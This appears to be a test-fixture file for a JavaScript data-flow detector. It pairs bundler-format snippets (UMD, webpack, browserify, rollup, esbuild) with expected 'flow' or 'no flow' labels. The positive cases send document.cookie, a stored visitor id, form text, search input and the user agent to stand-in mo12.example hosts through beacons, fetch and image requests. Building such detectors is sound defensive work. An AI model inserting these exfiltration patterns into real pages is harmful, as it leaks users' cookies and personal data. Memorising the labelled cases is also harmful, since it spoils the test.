//# umd-factory-with-exports
// flow: identifier > umd.mo12.example via beacon
(function (root, factory) {
  if (typeof define === 'function' && define.amd) define(['exports'], factory);
  else if (typeof exports === 'object') factory(exports);
  else factory((root.Beaconer = {}));
})(typeof self !== 'undefined' ? self : this, function (exports) {
  exports.version = '1.2';
  exports.send = function (what) { navigator.sendBeacon('https://umd.mo12.example/b', what); };
});
Beaconer.send(document.cookie);

//# near-umd-given-its-version
// no flow
(function (root, factory) {
  if (typeof define === 'function' && define.amd) define(['exports'], factory);
  else if (typeof exports === 'object') factory(exports);
  else factory((root.Beaconer = {}));
})(typeof self !== 'undefined' ? self : this, function (exports) {
  exports.version = '1.2';
  exports.send = function (what) { navigator.sendBeacon('https://ugv.mo12.example/b', what); };
});
Beaconer.send('v=' + Beaconer.version);
document.querySelector('#ck').hidden = !document.cookie;

//# webpack-five-bundle
// flow: message > wpf.mo12.example via fetch
(() => {
  'use strict';
  var __webpack_modules__ = {
    312: (module, exports, require) => {
      require.d(exports, { Z: () => report });
      function report(d) { return fetch('https://wpf.mo12.example/m', { method: 'POST', body: d }); }
    },
  };
  var cache = {};
  function r(id) {
    var c = cache[id];
    if (c !== undefined) return c.exports;
    var m = (cache[id] = { exports: {} });
    __webpack_modules__[id](m, m.exports, r);
    return m.exports;
  }
  r.o = (o, p) => Object.prototype.hasOwnProperty.call(o, p);
  r.d = (e, d) => { for (var k in d) if (r.o(d, k) && !r.o(e, k)) Object.defineProperty(e, k, { enumerable: true, get: d[k] }); };
  var lib = r(312);
  document.querySelector('form').onsubmit = () => { (0, lib.Z)(document.querySelector('textarea[name=message]').value); };
})();

//# near-webpack-two-modules-one-letter
// no flow
// why: both modules export Z; the message goes to the one that shows it
(() => {
  'use strict';
  var __webpack_modules__ = {
    312: (module, exports, require) => {
      require.d(exports, { Z: () => report });
      function report(d) { return fetch('https://wtm.mo12.example/m', { method: 'POST', body: d }); }
    },
    77: (module, exports, require) => {
      require.d(exports, { Z: () => show });
      function show(d) { document.querySelector('#out').textContent = d; }
    },
  };
  var cache = {};
  function r(id) {
    var c = cache[id];
    if (c !== undefined) return c.exports;
    var m = (cache[id] = { exports: {} });
    __webpack_modules__[id](m, m.exports, r);
    return m.exports;
  }
  r.o = (o, p) => Object.prototype.hasOwnProperty.call(o, p);
  r.d = (e, d) => { for (var k in d) if (r.o(d, k) && !r.o(e, k)) Object.defineProperty(e, k, { enumerable: true, get: d[k] }); };
  var a = r(312), b = r(77);
  (0, a.Z)('boot');
  document.querySelector('form').onsubmit = () => { (0, b.Z)(document.querySelector('textarea[name=message]').value); };
})();

//# browserify-bundle
// flow: identifier > bfy.mo12.example via image
(function e(t, n, r) {
  function s(o) {
    if (!n[o]) {
      var l = (n[o] = { exports: {} });
      t[o][0].call(l.exports, function (e) { var k = t[o][1][e]; return s(k ? k : e); }, l, l.exports, e, t, n, r);
    }
    return n[o].exports;
  }
  for (var o = 0; o < r.length; o++) s(r[o]);
  return s;
})({
  1: [function (require, module, exports) {
    var api = require('./api');
    api.identify(localStorage.getItem('vid'));
  }, { './api': 2 }],
  2: [function (require, module, exports) {
    exports.identify = function (v) { new Image().src = 'https://bfy.mo12.example/i?v=' + v; };
  }, {}],
}, {}, [1]);

//# near-browserify-entry-left-out
// no flow
// why: only module 2 is run; module 1, which has the id, is never asked for
(function e(t, n, r) {
  function s(o) {
    if (!n[o]) {
      var l = (n[o] = { exports: {} });
      t[o][0].call(l.exports, function (e) { var k = t[o][1][e]; return s(k ? k : e); }, l, l.exports, e, t, n, r);
    }
    return n[o].exports;
  }
  for (var o = 0; o < r.length; o++) s(r[o]);
  return s;
})({
  1: [function (require, module, exports) {
    var api = require('./api');
    api.identify(localStorage.getItem('vid'));
  }, { './api': 2 }],
  2: [function (require, module, exports) {
    exports.identify = function (v) { new Image().src = 'https://beo.mo12.example/i?v=' + v; };
    exports.identify('boot');
  }, {}],
}, {}, [2]);

//# rollup-namespace-object
// flow: search > rno.mo12.example via fetch
function log(m) { console.log(m); }
function post(m) { return fetch('https://rno.mo12.example/q', { method: 'POST', body: m }); }
var api = /*#__PURE__*/ Object.freeze({ __proto__: null, log: log, post: post });
api.post(document.querySelector('input[type=search]').value);

//# near-rollup-namespace-other-member
// no flow
function log(m) { console.log(m); }
function post(m) { return fetch('https://nrn.mo12.example/q', { method: 'POST', body: m }); }
var api = /*#__PURE__*/ Object.freeze({ __proto__: null, log: log, post: post });
api.log(document.querySelector('input[type=search]').value);
api.post('boot');

//# esbuild-common-js
// flow: device > esb.mo12.example via beacon
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var require_sender = __commonJS({
  'src/sender.js'(exports, module) {
    module.exports = function send(d) { navigator.sendBeacon('https://esb.mo12.example/d', d); };
  },
});
var import_sender = require_sender();
import_sender(navigator.userAgent);

//# near-esbuild-lazy-never-asked
// no flow
// why: the wrapped module is made and never run
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var require_probe = __commonJS({
  'src/probe.js'(exports, module) {
    navigator.sendBeacon('https://eln.mo12.example/d', navigator.userAgent);
    module.exports = {};
  },
});
var require_label = __commonJS({
  'src/label.js'(exports, module) { module.exports = { label: 'x' }; },
});
document.querySelector('#l').textContent = require_label().label;
